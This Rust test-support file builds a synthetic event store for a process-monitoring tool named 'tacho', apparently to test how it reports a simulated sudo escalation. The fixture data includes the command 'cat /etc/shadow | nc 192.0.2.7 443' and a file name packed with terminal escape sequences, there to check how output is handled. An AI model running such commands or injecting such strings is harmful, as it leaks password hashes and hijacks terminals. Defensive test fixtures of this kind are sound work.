//! A store with a small incident in it, and the binary to ask it with.

use std::{
    ffi::OsStr,
    path::Path,
    process::{Command, Output, Stdio},
    sync::Arc,
};

use event::{
    Class, Container, Context, Credentials, Detail, Event, Exit, File, FileFacts, Gap, GapReason, Image,
    ImageRef, Kind, Nanos, ProcessKey, Source, context_flags,
};
use store::{Batch, Options, Writer};
use tempfile::TempDir;

pub(crate) const SECOND: Nanos = 1_000_000_000;
/// 2026-01-02T03:04:05Z.
pub(crate) const BEGIN: Nanos = 1_767_323_045 * SECOND;
/// A file name that would steer a terminal if it got through.
pub(crate) const EVIL: &str = "/tmp/\u{1b}]0;owned\u{7}\u{1b}[2J\n\u{202e}\u{9b}31m";
/// Opens of the database server, for pages.
pub(crate) const OPENS: usize = 2_500;

/// A store on disk, closed.
pub(crate) struct World {
    pub(crate) dir: TempDir,
}

impl World {
    /// `sshd` (50) and `bash` of alice (60), both from the snapshot; bash forks 70, which becomes `sudo` (setuid), then `sh` as
    /// root, reads a secret, connects, and exits with 3; 71, its child, is killed; 90 serves a database in a container, its
    /// parent unknown.
    pub(crate) fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut writer = open(dir.path());
        writer.append(&incident()).unwrap();
        writer.close().unwrap();
        Self { dir }
    }

    /// With a loss of file events in it.
    pub(crate) fn with_gap() -> Self {
        let world = Self::new();
        let mut writer = open(world.dir.path());
        let (from, to) = (BEGIN + 2 * SECOND, BEGIN + 3 * SECOND);
        let gap = Gap { from, to, class: Class::File, lost: Some(7), reason: GapReason::RingFull };
        writer.append(&Batch { gaps: vec![gap], ..Batch::default() }).unwrap();
        writer.close().unwrap();
        world
    }

    /// One segment more, with what is made for its first free context id.
    pub(crate) fn append(&self, make: &dyn Fn(u64) -> Batch) {
        let mut writer = open(self.dir.path());
        let batch = make(writer.next_context_id());
        writer.append(&batch).unwrap();
        writer.close().unwrap();
    }

    /// A verb over it.
    pub(crate) fn verb(&self, verb: &str) -> Command {
        let mut command = tacho();
        command.arg(verb).arg("--store").arg(self.dir.path());
        command
    }

    /// What a verb says on standard output; it must succeed.
    pub(crate) fn said<S: AsRef<OsStr>>(&self, verb: &str, args: impl IntoIterator<Item = S>) -> String {
        let output = self.verb(verb).args(args).output().unwrap();
        assert!(output.status.success(), "{}", both(&output));
        String::from_utf8(output.stdout).unwrap()
    }
}

/// A writer whose stores may go on from one to the next without a gap.
pub(crate) fn open(dir: &Path) -> Writer {
    Writer::open(dir, Options { boot: 7, pack: false, ..Options::default() }).unwrap()
}

/// The binary, with none of the caller's settings.
pub(crate) fn tacho() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_tacho"));
    let ours =
        |name: &OsStr| name.as_encoded_bytes().starts_with(b"TACHO_") || name == "NO_COLOR" || name == "TZ";
    command.env_clear().envs(std::env::vars_os().filter(|(name, _)| !ours(name))).stdin(Stdio::null());
    command
}

/// Standard output and standard error.
pub(crate) fn both(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

pub(crate) fn key(pid: u32) -> ProcessKey {
    ProcessKey { boot: 7, start: u64::from(pid) * 1_000_000, pid }
}

fn user(uid: u32, user: &str, euid: u32, euser: &str) -> Credentials {
    Credentials {
        uid,
        euid,
        fsuid: euid,
        user: user.to_owned(),
        euser: euser.to_owned(),
        fsuser: euser.to_owned(),
        ..Credentials::default()
    }
}

fn image(path: &str, args: &[&str], mode: u32) -> ImageRef {
    let facts = FileFacts { inode: 9, mode: 0o100_755 | mode, ..FileFacts::default() };
    ImageRef::Own(Arc::new(Image {
        executable: File { path: path.to_owned(), facts: Some(facts), ..File::default() },
        argv0: path.rsplit('/').next().unwrap().to_owned(),
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
        ..Image::default()
    }))
}

pub(crate) fn context(id: u64, pid: u32, parent: Option<(u64, u32)>, comm: &str) -> Context {
    Context {
        id,
        process: key(pid),
        lineage: parent.map(|(context, _)| context),
        creator: parent.map(|(_, pid)| key(pid)),
        ppid: parent.map_or(4, |(_, pid)| pid),
        since: BEGIN,
        fork_time: BEGIN,
        exec_time: 0,
        comm: comm.to_owned(),
        tty: String::new(),
        image: ImageRef::Unknown,
        credentials: user(0, "root", 0, "root"),
        container: None,
        cgroup: String::new(),
        source: Source::Event,
        flags: 0,
    }
}

pub(crate) fn event(seconds: i64, kind: Kind, context: u64, path: Option<&str>, detail: Detail) -> Event {
    let file = path.map(|path| File { path: path.to_owned(), ..File::default() });
    Event {
        time: BEGIN + seconds * SECOND,
        kind,
        context,
        tid: 1,
        retval: 0,
        flags: 0,
        file,
        destination: None,
        detail,
    }
}

/// A process that opens a file so many times.
pub(crate) fn opens(id: u64, times: i64) -> Batch {
    let pid = 100 + u32::try_from(id).unwrap();
    Batch {
        contexts: vec![context(id, pid, None, "x").into()],
        events: (0..times).map(|number| opened(10 + number, id, "/srv/x")).collect(),
        ..Batch::default()
    }
}

fn opened(seconds: i64, context: u64, path: &str) -> Event {
    event(seconds, Kind::Open, context, Some(path), Detail::Open { flags: 0, mode: 0 })
}

fn contexts() -> Vec<Context> {
    let alice = || user(1000, "alice", 1000, "alice");
    let mut list = vec![
        Context {
            source: Source::Snapshot,
            image: image("/usr/sbin/sshd", &["-D"], 0),
            ..context(1, 50, None, "sshd")
        },
        context(2, 60, Some((1, 50)), "bash"),
        Context {
            since: BEGIN + SECOND,
            flags: context_flags::FORKED,
            ..context(3, 70, Some((2, 60)), "bash")
        },
        context(4, 70, Some((3, 60)), "sudo"),
        context(5, 70, Some((4, 60)), "sh"),
        context(6, 71, Some((5, 70)), "\u{1b}[31msleep"),
        context(7, 90, None, "postgres"),
    ];
    list[0].ppid = 0;
    list[1].image = image("/usr/bin/bash", &["-i"], 0);
    list[1].credentials = alice();
    list[2].image = ImageRef::Shared(2);
    list[2].credentials = alice();
    list[2].fork_time = BEGIN + SECOND;
    list[3].image = image("/usr/bin/sudo", &["sh"], 0o4000);
    list[3].credentials = user(1000, "alice", 0, "root");
    list[4].image = image("/usr/bin/sh", &["-c", "cat /etc/shadow | nc 192.0.2.7 443"], 0);
    for (place, seconds) in [(3, 1), (4, 2)] {
        list[place].creator = Some(key(60));
        list[place].fork_time = BEGIN + SECOND;
        list[place].exec_time = BEGIN + seconds * SECOND;
        list[place].since = BEGIN + seconds * SECOND;
        list[place].flags = context_flags::EXEC_CHILD;
    }
    list[5].image = ImageRef::Shared(5);
    list[5].fork_time = BEGIN + 3 * SECOND;
    list[6].image = image("/usr/lib/postgresql/postgres", &[], 0);
    list[6].container = Some(Container { id: "c0ffee".repeat(10), created_at: 0 });
    list[6].credentials = user(999, "postgres", 999, "postgres");
    list
}

fn incident() -> Batch {
    let mut refused = opened(1, 2, "/etc/shadow");
    refused.retval = -13;
    let exit = |seconds, context, status| event(seconds, Kind::Exit, context, None, Detail::Exit { status });
    let mut events = vec![
        event(0, Kind::Fork, 2, None, Detail::None),
        refused,
        event(1, Kind::Fork, 3, None, Detail::None),
        event(1, Kind::Exec, 4, None, Detail::Exec { path: "/usr/bin/sudo".to_owned() }),
        event(2, Kind::Exec, 5, None, Detail::Exec { path: "/usr/bin/sh".to_owned() }),
        opened(2, 5, "/etc/shadow"),
        opened(3, 5, EVIL),
        event(3, Kind::Fork, 6, None, Detail::None),
        exit(4, 6, 9),
        exit(5, 5, 3 << 8),
    ];
    events.extend((0..OPENS).map(|number| opened(6, 7, &format!("/srv/pg/base/{number}"))));
    let mut renamed = event(6, Kind::Rename, 7, Some("/srv/pg/old"), Detail::Rename { flags: 0 });
    renamed.destination = Some(Box::new(File { path: "/srv/pg/new".to_owned(), ..File::default() }));
    events.push(renamed);
    let end = |pid, seconds, status| Exit {
        process: key(pid),
        time: BEGIN + seconds * SECOND,
        status: Some(status),
    };
    Batch {
        contexts: contexts().into_iter().map(Arc::new).collect(),
        events,
        exits: vec![end(71, 4, 9), end(70, 5, 3 << 8)],
        ..Batch::default()
    }
}
